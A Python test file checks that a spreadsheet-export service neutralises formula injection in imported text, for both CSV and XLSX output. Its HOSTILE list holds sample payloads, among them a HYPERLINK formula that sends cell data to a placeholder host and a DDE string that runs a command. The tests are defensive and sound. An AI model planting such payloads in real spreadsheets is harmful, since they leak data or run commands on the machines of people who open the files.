"""Text a user imported never runs as a formula in a spreadsheet XunCha writes, and keeps its
content for whoever reads it."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from services.spreadsheets import neutralised, neutralised_row

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_is_written_as_text(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["村集体收入未入账", "T001V010", "", "a=b", 42, -3, None])
def test_other_values_are_written_as_given(value: object) -> None:
    assert neutralised(value) == value


def test_a_csv_row_carries_no_formula_and_keeps_the_text() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(neutralised_row(["T001", *HOSTILE, Decimal("-1.5")]))

    (row,) = csv.reader(io.StringIO(out.getvalue()))

    assert row[0] == "T001"
    assert row[1:-1] == ["'" + text for text in HOSTILE]
    assert row[-1] == "-1.5"  # a number stays a number


def test_an_xlsx_written_with_imported_text_holds_no_formula() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("单位")
    sheet.append(neutralised_row([*HOSTILE, date(2026, 10, 1), -7]))
    out = io.BytesIO()
    book.save(out)

    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())

    assert [cell.data_type for cell in cells[: len(HOSTILE)]] == ["s"] * len(HOSTILE)
    # A carriage return may come back as a line feed (XML reads it so; openpyxl over lxml,
    # which python-docx brings, escapes it and keeps it): compare the texts without it.
    texts = ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert [str(cell.value).replace("\r", "\n") for cell in cells[: len(HOSTILE)]] == texts
    assert cells[-1].value == -7
